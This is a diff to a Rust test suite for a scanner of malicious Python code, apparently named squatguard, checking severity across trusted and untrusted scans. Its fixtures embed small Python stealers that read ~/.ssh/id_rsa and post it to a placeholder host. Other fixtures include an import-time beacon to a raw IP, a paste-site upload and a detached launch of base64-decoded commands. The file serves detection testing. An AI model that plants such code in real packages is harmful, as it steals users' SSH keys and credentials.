@@ -1592,36 +1592,106 @@ fn scan_files(files: &[(&str, &str)]) -> (Option<i32>, Vec<Value>) {
     (out.status.code(), findings(&out))
 }
 
+/// [`scan_files`] of an installed distribution's files (a `RECORD` lists them all), with
+/// `--trusted`.
+fn scan_installed(files: &[(&str, &str)]) -> (Option<i32>, Vec<Value>) {
+    let dir = tempfile::tempdir().unwrap();
+    let mut record = String::new();
+    for (rel, text) in files {
+        write(dir.path(), rel, text);
+        record.push_str(&format!("{rel},,\n"));
+    }
+    write(dir.path(), "dist-1.0.dist-info/RECORD", &record);
+    let out = squatguard(dir.path(), &["scan", "--trusted", "--format", "json"]);
+    (out.status.code(), findings(&out))
+}
+
 #[test]
 fn severity_follows_capability_and_reach() {
+    // in a repository scanned as it comes (untrusted), a file is one place: a threat and a
+    // capability anywhere in it meet, whatever calls what (a hostile author can hide which
+    // function runs which behind a dict of callbacks, a lambda or `getattr`)
+    let split = "import os\nimport requests\n\n\ndef read_key():\n    return open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n\n\ndef send(data):\n    requests.post(\"https://example.invalid/u\", data=data)\n";
+    let hooks = "\n\nHOOKS = {\"k\": read_key, \"s\": send}\nHOOKS[\"s\"](HOOKS[\"k\"]())\n";
+    for text in [split.to_owned(), format!("{split}{hooks}")] {
+        let (code, all) = scan_files(&[("tools/sync.py", &text)]);
+        assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
+        assert_eq!(code, Some(1));
+    }
+
+    // the modules of installed distributions, with `--trusted` (`RECORD` lists them): signals
+    // meet where they run together
     // a stealer that reads an SSH key and posts it in one function: an error, called or not
     let one = "import os\nimport requests\n\n\ndef steal():\n    key = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n    requests.post(\"https://example.invalid/u\", data=key)\n";
-    let (code, all) = scan_files(&[("tools/sync.py", one)]);
+    let (code, all) = scan_installed(&[("tools/sync.py", one)]);
     assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
     assert_eq!(code, Some(1));
 
     // the same split across two functions that nothing calls unasked: a warning
-    let split = "import os\nimport requests\n\n\ndef read_key():\n    return open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n\n\ndef send(data):\n    requests.post(\"https://example.invalid/u\", data=data)\n";
-    let (code, all) = scan_files(&[("tools/sync.py", split)]);
+    let (code, all) = scan_installed(&[("tools/sync.py", split)]);
     assert_fires(&all, "credential-access", "tools/sync.py", 6, "warning");
     assert_eq!(code, Some(0));
 
     // ... and called at import: both run unasked, an error
     let called = format!("{split}\n\nsend(read_key())\n");
-    let (code, all) = scan_files(&[("tools/sync.py", &called)]);
+    let (code, all) = scan_installed(&[("tools/sync.py", &called)]);
     assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
     assert_eq!(code, Some(1));
 
+    // ... and called from a script the instructions run, in another file (a lure's `main.py`
+    // calling its `utils`), by module name, through a function imported by name, or through a
+    // module the script imports: they run unasked, an error
+    let readme = "# Coding test\n\nRun `python main.py` to start.\n";
+    let mains = [
+        "import utils\n\nutils.send(utils.read_key())\n",
+        "from utils import read_key, send\n\nsend(read_key())\n",
+        "import helpers.net as net\n\nnet.go()\n",
+    ];
+    for main in mains {
+        let (code, all) = scan_installed(&[
+            ("README.md", readme),
+            ("main.py", main),
+            ("utils.py", split),
+            ("helpers/__init__.py", ""),
+            (
+                "helpers/net.py",
+                "import utils\n\n\ndef go():\n    utils.send(utils.read_key())\n",
+            ),
+        ]);
+        assert_fires(&all, "credential-access", "utils.py", 6, "error");
+        assert_eq!(code, Some(1), "{main}");
+    }
+    // a script that calls other functions of it: still a warning
+    let (code, all) = scan_installed(&[
+        ("README.md", readme),
+        ("main.py", "import utils\n\nprint(utils.__name__)\n"),
+        ("utils.py", split),
+    ]);
+    assert_fires(&all, "credential-access", "utils.py", 6, "warning");
+    assert_eq!(code, Some(0));
+
+    // a class made at import whose `__init__` reads the key and whose method, called through
+    // `self`, posts it: both run unasked, an error
+    let class = "import os\nimport requests\n\n\nclass Sync:\n    def __init__(self):\n        self.key = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n        self.push()\n\n    def push(self):\n        requests.post(\"https://example.invalid/u\", data=self.key)\n\n\nSync()\n";
+    let (code, all) = scan_installed(&[("tools/__init__.py", class)]);
+    assert_fires(&all, "credential-access", "tools/__init__.py", 7, "error");
+    assert_eq!(code, Some(1));
+    // the same class that nothing makes on import: a warning
+    let unmade = class.trim_end_matches("Sync()\n");
+    let (code, all) = scan_installed(&[("tools/__init__.py", unmade)]);
+    assert_fires(&all, "credential-access", "tools/__init__.py", 7, "warning");
+    assert_eq!(code, Some(0));
+
     // an SSH client that loads known_hosts in one method and connects in another (paramiko)
     let client = "import os\nimport socket\n\n\nclass SSHClient:\n    def load_system_host_keys(self):\n        self.known = os.path.expanduser(\"~/.ssh/known_hosts\")\n\n    def connect(self, host, port=22):\n        self.sock = socket.create_connection((host, port))\n";
-    let (code, all) = scan_files(&[("sshlib/client.py", client)]);
+    let (code, all) = scan_installed(&[("sshlib/client.py", client)]);
     assert_fires(&all, "credential-access", "sshlib/client.py", 7, "warning");
     assert_eq!(code, Some(0));
 
     // an rc loader that can fetch a URL at import (matplotlib), beside a cache folder in the
     // temporary directory and a decoding that nothing calls on import: a bare capability
     let rc = "import base64\nimport tempfile\nimport urllib.request\n\n\ndef _cachedir():\n    return tempfile.mkdtemp(prefix=\"lib-\")\n\n\ndef _open(fname):\n    _cachedir()\n    if \"://\" in fname:\n        return urllib.request.urlopen(fname).read()\n    return open(fname).read()\n\n\ndef _unpack(s):\n    return base64.b64decode(s)\n\n\nrc = _open(\"librc\")\n";
-    let (code, all) = scan_files(&[("plotlib/__init__.py", rc)]);
+    let (code, all) = scan_installed(&[("plotlib/__init__.py", rc)]);
     assert_fires(
         &all,
         "import-time-code",
@@ -1633,7 +1703,7 @@ fn severity_follows_capability_and_reach() {
 
     // an import-time post to a raw IP: an error
     let beacon = "import urllib.request\n\n\ndef _ping():\n    urllib.request.urlopen(\"http://45.33.32.156/c\", data=b\"x\")\n\n\n_ping()\n";
-    let (code, all) = scan_files(&[("plotlib/__init__.py", beacon)]);
+    let (code, all) = scan_installed(&[("plotlib/__init__.py", beacon)]);
     assert_fires(&all, "import-time-code", "plotlib/__init__.py", 8, "error");
     assert_fires(&all, "exfil-endpoint", "plotlib/__init__.py", 5, "error");
     assert_eq!(code, Some(1));
@@ -1641,23 +1711,23 @@ fn severity_follows_capability_and_reach() {
     // a client of a paste site in a method nothing calls unasked (IPython's `%pastebin`): a
     // warning; the same upload at import, an error
     let paste = "from urllib.request import urlopen\n\n\nclass Magics:\n    def pastebin(self, code):\n        return urlopen(\"https://dpaste.com/api/v2/\", code.encode())\n";
-    let (code, all) = scan_files(&[("shell/magics.py", paste)]);
+    let (code, all) = scan_installed(&[("shell/magics.py", paste)]);
     assert_fires(&all, "exfil-endpoint", "shell/magics.py", 6, "warning");
     assert_eq!(code, Some(0));
     let at_import =
         "from urllib.request import urlopen\n\nurlopen(\"https://dpaste.com/api/v2/\", b\"x\")\n";
-    let (code, all) = scan_files(&[("shell/magics.py", at_import)]);
+    let (code, all) = scan_installed(&[("shell/magics.py", at_import)]);
     assert_fires(&all, "exfil-endpoint", "shell/magics.py", 3, "error");
     assert_eq!(code, Some(1));
 
     // a detached launch beside a decoding in another, uncalled function: a warning; in the
     // same function, an error
     let apart = "import base64\nimport subprocess\n\n\ndef start(cmd):\n    subprocess.Popen(cmd, start_new_session=True)\n\n\ndef unpack(s):\n    return base64.b64decode(s)\n";
-    let (code, all) = scan_files(&[("svc/run.py", apart)]);
+    let (code, all) = scan_installed(&[("svc/run.py", apart)]);
     assert_fires(&all, "hidden-process", "svc/run.py", 6, "warning");
     assert_eq!(code, Some(0));
     let together = "import base64\nimport subprocess\n\n\ndef start(s):\n    subprocess.Popen(base64.b64decode(s).split(), start_new_session=True)\n";
-    let (code, all) = scan_files(&[("svc/run.py", together)]);
+    let (code, all) = scan_installed(&[("svc/run.py", together)]);
     assert_fires(&all, "hidden-process", "svc/run.py", 6, "error");
     assert_eq!(code, Some(1));
 }
